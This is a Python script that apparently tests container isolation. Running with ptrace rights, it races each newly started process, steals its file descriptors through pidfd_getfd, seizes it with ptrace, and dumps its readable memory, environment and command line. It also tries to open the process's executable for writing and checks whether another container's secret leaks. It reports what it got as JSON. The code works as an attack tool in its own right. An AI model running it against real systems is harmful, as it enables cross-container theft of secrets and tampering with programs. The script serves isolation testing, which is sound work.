"""Runs as the first process of a container with CAP_SYS_PTRACE and attacks every process that comes into its sight.

    python tracer.py SECRET     tells as JSON {"caught": how many, "halted": how many, "memory": bytes, what: [values]}

It writes /ready, and stops when /stop exists. Numbers of processes follow each other: it waits for the next ones. What
it gets hold of before the process has become a program of ours is told: `powers` that are not its own, `files` that are
mapped or open, `secrets` (whether SECRET, which is another container's, is in the memory) and `opened` descriptors.
"""

import contextlib
import ctypes
import json
import os
import sys

MINE = os.getpid()
SECRET = sys.argv[1].encode()
AHEAD = 6
SEIZE, WALL = 0x4206, 0x40000000
PIDFD_OPEN, PIDFD_GETFD, PROCESS_VM_READV = 434, 438, {"x86_64": 310, "aarch64": 270}[os.uname().machine]
LONGEST = 64 << 20

libc = ctypes.CDLL(None, use_errno=True)
syscall = libc.syscall
syscall.restype = ctypes.c_long
found: dict[str, set[str]] = {"powers": set(), "files": set(), "secrets": set(), "opened": set()}
count = {"caught": 0, "halted": 0, "memory": 0}


def read(path: str) -> bytes:
    """A small file of procfs; nothing if it cannot be read."""
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


def rights(pid: int) -> dict[str, int]:
    """What the kernel says that a process may do."""
    lines = dict(line.split(b":", 1) for line in read(f"/proc/{pid}/status").splitlines() if b":" in line)
    return {name.decode(): int(lines[name], 16) for name in (b"CapEff", b"CapPrm", b"CapInh", b"CapBnd", b"CapAmb")
            if name in lines} | {name.decode(): int(lines[name]) for name in (b"Seccomp", b"NoNewPrivs")
                                 if name in lines}


OWN = rights(MINE)


def memory(pid: int, areas: list[tuple[int, int]]) -> bytes:
    """All that can be read of it, one way or the other."""
    content = b""
    for start, end in areas:
        size = min(end - start, LONGEST)
        buffer = ctypes.create_string_buffer(size)
        there, here = (ctypes.c_uint64 * 2)(start, size), (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), size)
        if syscall(PROCESS_VM_READV, pid, here, 1, there, 1, 0) > 0:
            content += buffer.raw
        with contextlib.suppress(OSError, ValueError, OverflowError), open(f"/proc/{pid}/mem", "rb", 0) as file:
            file.seek(start)
            content += file.read(size) or b""
    return content


def attack(pid: int, pidfd: int) -> None:
    """In the order of what is soonest over."""
    held = syscall(PIDFD_GETFD, pidfd, 3, 0)
    has = rights(pid)
    halted = libc.ptrace(SEIZE, pid, None, None) == 0
    if halted:
        has = has if len(has) > 4 else rights(pid)
    before = read(f"/proc/{pid}/maps")
    areas = [(int(low, 16), int(high, 16)) for low, high in (
        line.split()[0].split(b"-") for line in before.splitlines() if line.split()[1].startswith(b"r"))]
    content = memory(pid, [area for area in areas if area[1] < 1 << 63])
    environ = read(f"/proc/{pid}/environ") + read(f"/proc/{pid}/cmdline")
    with contextlib.suppress(OSError):
        program = os.open(f"/proc/{pid}/exe", os.O_RDWR)
        os.pwrite(program, b"x", 0)
        found["powers"].add("to write " + os.readlink(f"/proc/self/fd/{program}"))
    descriptors = {}
    for number in range(24):
        with contextlib.suppress(OSError):
            descriptors[number] = os.readlink(f"/proc/{pid}/fd/{number}")
    taken = {number: fd for number in range(3, 24) if (fd := syscall(PIDFD_GETFD, pidfd, number, 0)) >= 0}
    if held >= 0:
        taken[-3] = held
    count["caught"] += 1
    count["halted"] += halted
    count["memory"] += len(content)
    for name, value in has.items():
        more = value < OWN[name] if name in ("Seccomp", "NoNewPrivs") else value & ~OWN[name]
        if more:
            found["powers"].add(f"{name} {value:x}")
    found["files"] |= {line.split(None, 5)[5].decode() for line in before.splitlines() if len(line.split(None, 5)) > 5}
    if SECRET in content or SECRET in environ:
        found["secrets"].add("read")
    for number, fd in taken.items():
        found["opened"].add(descriptors.get(number) or os.readlink(f"/proc/self/fd/{fd}"))
        os.close(fd)


def main() -> None:
    """Wait for the next number, and attack whoever gets it."""
    with open("/ready", "w") as file:
        file.write("ready")
    last, turns = MINE, 0
    while True:
        turns += 1
        if turns % 64 == 0:  # some have gone by while it looked at another
            last = max(last, int(read("/proc/loadavg").split()[-1]) - AHEAD + 1)
        if turns % 512 == 0 and os.path.exists("/stop"):
            break
        for pid in range(last + 1, last + AHEAD):
            pidfd = syscall(PIDFD_OPEN, pid, 0)
            if pidfd >= 0:
                attack(pid, pidfd)
                os.close(pidfd)
                last = pid
                break
        with contextlib.suppress(ChildProcessError):
            os.waitpid(-1, os.WNOHANG | WALL)  # what it has seized tells it of its stops
    json.dump(count | {what: sorted(values) for what, values in found.items()}, sys.stdout)


main()
